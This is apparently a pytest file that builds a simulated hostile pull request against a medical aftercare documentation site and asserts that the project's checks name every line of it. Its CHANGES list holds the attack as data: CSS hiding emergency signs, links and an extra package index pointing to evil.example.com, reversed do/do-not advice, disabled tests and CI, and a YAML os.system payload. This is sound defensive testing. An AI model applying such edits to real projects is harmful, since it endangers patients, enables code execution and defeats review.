"""One pull request that once passed every check: it hid the emergency signs, led two links to another host, laid a
layer over "Get help", took the advice from a row, and turned the tests off. Every one of its lines is named now.
"""

from __future__ import annotations

import subprocess

import pytest

from checks import everything, promise_of_base
from conftest import copy_project
from sources import Sources, read

PAGE, STYLES, DATA = "docs/aftercare.md", "docs/assets/extra.css", "docs/_data/warning-signs.yml"
CALL = "## When to call {#when-to-call}"
CHANGES = [  # file, old text, new text, and what is said of that line
    (STYLES, None, ".md-typeset .emergency ul { color: transparent; }\n", "color"),
    (STYLES, None, '.md-header__inner::after { content: ""; position: absolute; inset: 0; }\n', "inset: 0"),
    (STYLES, None, "@media (max-width: 40em) { .emergency .numbers { max-height: 0; } }\n", "max-height"),
    (PAGE, CALL, f"{CALL}\n\nSee [the signs in full](https://&#9;evil.example.com/).", "leads to evil.example.com"),
    (PAGE, CALL, f"{CALL}\n\n[How to call](get-help.md){{: href=//evil.example.com x={{ }}.", '"x" of <a>'),
    (PAGE, CALL, f"{CALL}\n\nCall for new chest pain.\n{{: .moved }}", 'the class "moved" may not stand here'),
    (PAGE, CALL, f'{CALL}\n\n> !!! emergency "Call now"\n>\n>     Wait a week.', 'the class "emergency" may not stand'),
    (PAGE, "## Do {#do}", "## Do {#do-not}", None),
    (PAGE, "## Do not {#do-not}", "## Do not {#do}", "do-not"),
    (DATA, "  do: 'Call your emergency number. ", "  do: '| Wait and see. ", 'begins with "| W"'),
    ("pytest.ini", None, "[pytest]\naddopts = --collect-only\n", "no file of this name belongs here"),
    ("pyproject.toml", 'addopts = "-q', 'addopts = "--collect-only -q', "could switch a check off"),
    (".github/zizmor.yml", None, "rules: {}\n", "no file of this name belongs here"),
    (".github/workflows/site.yml", "        run: bash .ci/run\n", "        run: true\n", "could switch a check off"),
    (".gitattributes", None, "docs/** -diff\n", "could switch a check off"),
    ("requirements.txt", None, "--extra-index-url https://evil.example.com/simple\n", "a lock holds only names"),
    ("zensical.yml", None, 'x: !!python/object/apply:os.system ["id"]\n', "may not stand in zensical.yml"),
]


@pytest.fixture(scope="module")
def said(tmp_path_factory) -> list:
    """What is said of the whole change, against the branch that it would change."""
    root = copy_project(tmp_path_factory.mktemp("pull-request") / "project")

    def git(*command: str) -> None:
        me = ("-c", "user.name=x", "-c", "user.email=x@example.org")
        subprocess.run(["git", *me, *command], cwd=root, check=True, capture_output=True)

    git("init", "-q", "-b", "main")
    git("add", "-A")
    git("commit", "-qm", "What is published")
    git("checkout", "-qb", "pull-request")
    for file, old, new, _ in CHANGES:
        path = root / file
        text = path.read_text("utf-8") if path.exists() else ""
        assert old is None or old in text, f"{new} does not fit {file}"
        path.write_text(text + new if old is None else text.replace(old, new), "utf-8")
    git("add", "-A")
    git("commit", "-qm", "Correct a word")
    sources: Sources = read(root / "docs")
    return [*everything.of_project(root, sources), *promise_of_base.check(root, sources)]


@pytest.mark.parametrize(("file", "new", "message"), [(file, new, said) for file, _, new, said in CHANGES if said])
def test_every_line_of_it_is_named(said, file, new, message):
    hits = [problem for problem in said if problem.path == file and message in str(problem)]
    assert hits and all(problem.fix for problem in hits), "\n".join(str(one) for one in said if one.path == file)
